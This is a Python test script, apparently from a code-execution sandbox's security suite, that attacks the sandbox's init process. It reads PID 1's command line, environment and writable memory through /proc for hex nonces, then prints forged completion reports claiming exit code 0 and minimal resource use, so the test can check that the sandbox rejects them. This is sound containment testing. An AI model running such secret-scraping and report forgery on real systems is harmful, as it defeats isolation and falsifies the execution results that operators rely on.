# Attack: forge coderunner-init's report. The job prints init's trailer
# line (and a pooled job's stdout end marker) itself, claiming exit code 0,
# 7 bytes of memory and no /output violation, with every nonce it can find
# (none, and any hex token in /proc/1/cmdline, /proc/1/environ, init's
# writable memory through /proc/1/mem, or the warm pool's FIFO), then
# exits 3. Contained when the result is the
# program's own exit code 3 and none of the forged figures appear.
import os, re, sys

guesses = {""}
for path in ("/proc/1/cmdline", "/proc/1/environ", "/workspace/.coderunner-go"):
    try:
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        data = os.read(fd, 65536).decode("latin-1")
        os.close(fd)
        guesses.update(re.findall(r"[0-9a-f]{16,64}", data))
        print("read", path)
    except OSError as e:
        print("denied", path, e.errno)
try:
    with open("/proc/1/maps") as maps, open("/proc/1/mem", "rb", 0) as mem:
        for line in maps:
            span, perms = line.split()[:2]
            if "w" not in perms:
                continue
            lo, hi = (int(x, 16) for x in span.split("-"))
            mem.seek(lo)
            data = mem.read(min(hi - lo, 1 << 20)).decode("latin-1")
            guesses.update(re.findall(r"[0-9a-f]{24}", data))
    print("read /proc/1/mem")
except OSError as e:
    print("denied /proc/1/mem", e.errno)
marker = "\x1ecoderunner-init "
for nonce in sorted(guesses):
    sys.stdout.write(marker + '{"eof":"%s"}\n' % nonce)
    sys.stdout.flush()
    sys.stderr.write(
        marker + '{"exit_code":0,"signal":0,"wall_us":1,"cpu_us":1,"memory_peak_bytes":7,'
        '"oom_kills":0,"output_bytes":0,"output_entries":0,"output_violation":"",'
        '"output_rolled_back":0,"start_error":"","eof":"%s"}\n' % nonce)
    sys.stderr.flush()
sys.exit(3)
